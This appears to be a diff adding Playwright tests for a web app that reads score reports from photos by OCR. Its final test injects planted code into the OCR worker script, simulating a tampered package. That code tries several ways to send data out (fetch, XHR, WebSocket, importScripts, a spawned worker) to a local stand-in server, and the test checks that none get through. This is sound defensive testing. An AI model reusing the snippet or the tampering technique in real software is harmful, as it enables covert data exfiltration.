@@ -1,0 +1,140 @@
+import { readFileSync } from 'node:fs'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { expect, type Page, test } from '@playwright/test'
+import { pick, visit } from './support'
+
+/** A photo of the outcome: score 269, passed. */
+const photo = 'fixtures/pictures/photo-outcome.jpg'
+/** Another person's outcome, in dark mode. */
+const screenshot = 'fixtures/pictures/screenshot-first-page.png'
+const truth = (path: string): { score: number } =>
+  JSON.parse(readFileSync(path.replace(/\.\w+$/, '.truth.json'), 'utf8'))
+
+/** Recognition takes seconds, on a busy machine many. */
+const PATIENCE = { timeout: 40_000 }
+
+async function readTo(page: Page, score: number) {
+  await page.waitForURL(/\/(report|check)\//, PATIENCE)
+  if (page.url().includes('/check/')) await page.keyboard.press('a')
+  await page.waitForURL(/\/report\//)
+  await expect(page.getByRole('main')).toContainText(String(score))
+}
+
+async function untilKept(page: Page) {
+  await page.evaluate(async () => {
+    await navigator.serviceWorker.ready
+    if (!navigator.serviceWorker.controller)
+      await new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', resolve))
+  })
+}
+
+test.describe('pictures', () => {
+  test('a photo is read, its straightened page shown; a second is read with the network off', async ({
+    page,
+    context,
+  }) => {
+    test.setTimeout(120_000)
+    await visit(page, '/')
+    await untilKept(page)
+    await pick(page, photo)
+    await readTo(page, truth(photo).score)
+    await page.goto('/check/')
+    const drawn = page.getByRole('img', { name: /Page 1 of/ })
+    await expect(drawn).toBeVisible()
+    // The sheet was cut out of the photo: narrower than the photo's 1619 pixels, and upright.
+    const [, , width = 0, height = 0] = ((await drawn.getAttribute('viewBox')) ?? '').split(' ').map(Number)
+    expect(width).toBeLessThan(1560)
+    expect(height / width).toBeCloseTo(11 / 8.5, 1)
+    await context.setOffline(true)
+    await visit(page, '/')
+    await pick(page, screenshot)
+    await readTo(page, truth(screenshot).score)
+  })
+
+  test('a pasted picture shows how far reading is and can be cancelled', async ({ page }) => {
+    await visit(page, '/')
+    await page.evaluate(
+      (bytes) => {
+        const data = new DataTransfer()
+        data.items.add(new File([new Uint8Array(bytes)], 'image.png', { type: 'image/png' }))
+        document.body.dispatchEvent(
+          new ClipboardEvent('paste', { bubbles: true, cancelable: true, clipboardData: data }),
+        )
+      },
+      [...readFileSync(screenshot)],
+    )
+    await expect(page.getByRole('status')).toContainText('Reading image.png')
+    await expect(page.getByRole('progressbar')).toBeVisible()
+    await page.getByRole('button', { name: 'Cancel' }).click()
+    await expect(page.getByText('Drop the report here')).toBeVisible()
+    expect(page.url()).not.toMatch(/report|check/)
+  })
+
+  test('where recognition cannot be loaded the page says so and offers entry by hand', async ({ page }) => {
+    await page.route(/\/ocr\//, (route) => route.abort())
+    await visit(page, '/')
+    await pick(page, screenshot)
+    await expect(page.getByRole('main')).toContainText('could not be loaded', PATIENCE)
+    await expect(page.getByRole('main').getByRole('link', { name: 'Enter by hand' }).first()).toBeVisible()
+  })
+
+  test('a phone offers its camera, another computer does not', async ({ page, browser, baseURL }) => {
+    await visit(page, '/')
+    await expect(page.getByText('Take a photo')).toHaveCount(0)
+    const phone = await browser.newContext({ hasTouch: true, isMobile: true, viewport: { width: 390, height: 844 } })
+    const small = await phone.newPage()
+    await visit(small, baseURL ?? '/')
+    const camera = small.getByLabel('Take a photo')
+    await expect(camera).toHaveAttribute('capture', 'environment')
+    await expect(camera).toHaveAttribute('accept', 'image/*')
+    await phone.close()
+  })
+})
+
+test.describe('code planted inside the recognition cannot send anything', () => {
+  let server: Server
+  let hits: string[]
+  let address: string
+  test.beforeEach(async () => {
+    hits = []
+    server = createServer((request, response) => {
+      hits.push(request.url ?? '')
+      response.setHeader('Access-Control-Allow-Origin', '*')
+      response.end()
+    })
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+    address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+  })
+  test.afterEach(async () => {
+    server.closeAllConnections()
+    await new Promise((resolve) => server.close(resolve))
+  })
+
+  test('while it reads', async ({ page, context }) => {
+    const planted = (to: string) => `
+      ;(() => {
+        const to = ${JSON.stringify(to)}
+        const tries = [
+          () => fetch(to + '/fetch', { method: 'POST', body: 'x', mode: 'no-cors' }),
+          () => { const r = new XMLHttpRequest(); r.open('POST', to + '/request'); r.send('x') },
+          () => new WebSocket(to.replace('http', 'ws') + '/socket'),
+          () => importScripts(to + '/script'),
+          () => new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "/worker', { mode: 'no-cors' })"]))),
+        ]
+        for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
+      })();`
+    let planting = 0
+    // The recognition's own script, with more in front: as if its package had been tampered with.
+    await context.route(/\/ocr\/worker\.min\.js/, async (route) => {
+      const body = readFileSync('out/ocr/worker.min.js', 'utf8')
+      planting++
+      await route.fulfill({ contentType: 'text/javascript', body: planted(address) + body })
+    })
+    await visit(page, '/')
+    await pick(page, screenshot)
+    await readTo(page, truth(screenshot).score)
+    expect(planting).toBeGreaterThan(0)
+    expect(hits).toEqual([])
+  })
+})
